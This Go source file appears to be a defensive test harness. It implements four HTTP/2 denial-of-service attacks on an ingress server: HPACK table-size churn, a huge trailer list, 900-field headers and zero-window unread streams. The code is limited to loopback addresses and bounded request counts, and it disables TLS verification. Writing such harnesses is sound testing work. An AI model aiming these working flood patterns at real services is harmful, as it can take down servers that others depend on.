// Package stranger implements attacks on ingress that need no API key. They work on
// loopback addresses alone, and are bounded in the number of requests and by their
// context.
package stranger

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attack is one way to hurt ingress over HTTP/2. It returns how many requests it sent
// when they are all sent or the context ends. Connections that ingress closes are
// opened again.
type Attack func(ctx context.Context, address string, requests int64) (sent int64, err error)

// Attacks are all attacks, by name.
var Attacks = map[string]Attack{
	"hpack":    HPACK,
	"trailers": Trailers,
	"headers":  Headers,
	"unread":   Unread,
}

// HPACK changes the size of the header table between requests: 24 pairs of HEADERS
// and two SETTINGS frames in a flight, on 6 connections. It crashed Go 1.26.8.
func HPACK(ctx context.Context, address string, requests int64) (int64, error) {
	const pairs = 24
	return onConnections(ctx, address, 6, requests, func(c *connection) error {
		for range pairs {
			if err := c.get(nil, true); err != nil {
				return err
			}
			for _, size := range []uint32{uint32(c.stream*97) % 4096, 4096 - uint32(c.stream*31)%4096} {
				if err := c.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: size}); err != nil {
					return err
				}
			}
		}
		return c.flush()
	})
}

// Trailers announces 7,794 trailers in one field of 30 KB, on 30 streams of each of
// 60 connections, and never ends a request.
func Trailers(ctx context.Context, address string, requests int64) (int64, error) {
	var names strings.Builder
	for i := range 7794 {
		fmt.Fprintf(&names, "%x,", i)
	}
	field := hpack.HeaderField{Name: "trailer", Value: strings.TrimSuffix(names.String(), ",")[:30<<10]}
	return onConnections(ctx, address, 60, requests, func(c *connection) error { return c.pileUp(30, field) })
}

// Headers sends headers of 900 short fields, on 30 streams of each of 60 connections,
// and never ends a request.
func Headers(ctx context.Context, address string, requests int64) (int64, error) {
	fields := make([]hpack.HeaderField, 0, 900)
	for i := range cap(fields) {
		fields = append(fields, hpack.HeaderField{Name: fmt.Sprintf("%x", i), Value: "a"})
	}
	return onConnections(ctx, address, 60, requests, func(c *connection) error { return c.pileUp(30, fields...) })
}

// Unread asks for pages and takes no byte of them, on 30 streams of each of 60
// connections, again and again.
func Unread(ctx context.Context, address string, requests int64) (int64, error) {
	return onConnections(ctx, address, 60, requests, func(c *connection) error {
		if err := c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
			return err
		}
		for range 30 {
			if err := c.get(nil, true); err != nil {
				return err
			}
		}
		if err := c.flush(); err != nil {
			return err
		}
		select {
		case <-time.After(held):
		case <-ctx.Done():
		}
		return nil
	})
}

// held is how long unread answers are held before more are asked for.
const held = 100 * time.Millisecond

// connection is an HTTP/2 connection of a stranger.
type connection struct {
	net.Conn
	framer *http2.Framer
	// queued is what was not sent yet.
	queued  bytes.Buffer
	block   bytes.Buffer
	encoder *hpack.Encoder
	// stream is the number of requests so far, counted how many of them are in sent.
	stream, counted int64
	sent            *atomic.Int64
}

// onConnections repeats a flight on connections until so many requests are sent.
func onConnections(ctx context.Context, address string, connections int, requests int64, flight func(*connection) error) (int64, error) {
	remote, err := netip.ParseAddrPort(address)
	if err != nil || !remote.Addr().IsLoopback() {
		return 0, fmt.Errorf("%q is not a loopback address with a port", address)
	}
	var (
		all     sync.WaitGroup
		sent    atomic.Int64
		reached atomic.Bool
	)
	for range connections {
		all.Go(func() {
			for ctx.Err() == nil && sent.Load() < requests {
				c, err := dial(ctx, address, &sent)
				if err != nil {
					continue // ingress has turned it away
				}
				reached.Store(true)
				for err == nil && ctx.Err() == nil && sent.Load() < requests {
					err = flight(c)
				}
				_ = c.Close() // ingress may have been first
			}
		})
	}
	all.Wait()
	if !reached.Load() {
		return 0, errors.New("no connection was accepted")
	}
	return sent.Load(), nil
}

func dial(ctx context.Context, address string, sent *atomic.Int64) (*connection, error) {
	dialer := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}} //nolint:gosec // a stranger trusts anybody
	accepted, err := dialer.DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	c := &connection{Conn: accepted, sent: sent}
	c.framer = http2.NewFramer(&c.queued, nil)
	c.encoder = hpack.NewEncoder(&c.block)
	c.queued.WriteString(http2.ClientPreface)
	go func() { _, _ = io.Copy(io.Discard, accepted) }()    // until it is closed
	context.AfterFunc(ctx, func() { _ = accepted.Close() }) // so that no write outlives the attack
	return c, c.framer.WriteSettings()
}

// get begins a request for a page.
func (c *connection) get(fields []hpack.HeaderField, end bool) error {
	c.block.Reset()
	usual := []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "x"}, {Name: ":path", Value: "/confirm/x"},
	}
	for _, field := range append(usual, fields...) {
		if err := c.encoder.WriteField(field); err != nil {
			return err
		}
	}
	const most = 16 << 10
	stream, text := uint32(2*c.stream+1), c.block.Bytes()
	first := text[:min(len(text), most)]
	text = text[len(first):]
	err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: first, EndStream: end, EndHeaders: len(text) == 0})
	for err == nil && len(text) > 0 {
		next := text[:min(len(text), most)]
		text = text[len(next):]
		err = c.framer.WriteContinuation(stream, len(text) == 0, next)
	}
	c.stream++
	return err
}

// pileUp begins requests that never end, and gives them up together once they are
// all sent.
func (c *connection) pileUp(streams int, fields ...hpack.HeaderField) error {
	first := c.stream
	for range streams {
		if err := c.get(fields, false); err != nil {
			return err
		}
		if err := c.flush(); err != nil {
			return err
		}
	}
	for stream := first; stream < c.stream; stream++ {
		if err := c.framer.WriteRSTStream(uint32(2*stream+1), http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return c.flush()
}

// flush sends what is queued and counts it.
func (c *connection) flush() error {
	_, err := c.queued.WriteTo(c.Conn)
	c.sent.Add(c.stream - c.counted)
	c.counted = c.stream
	return err
}
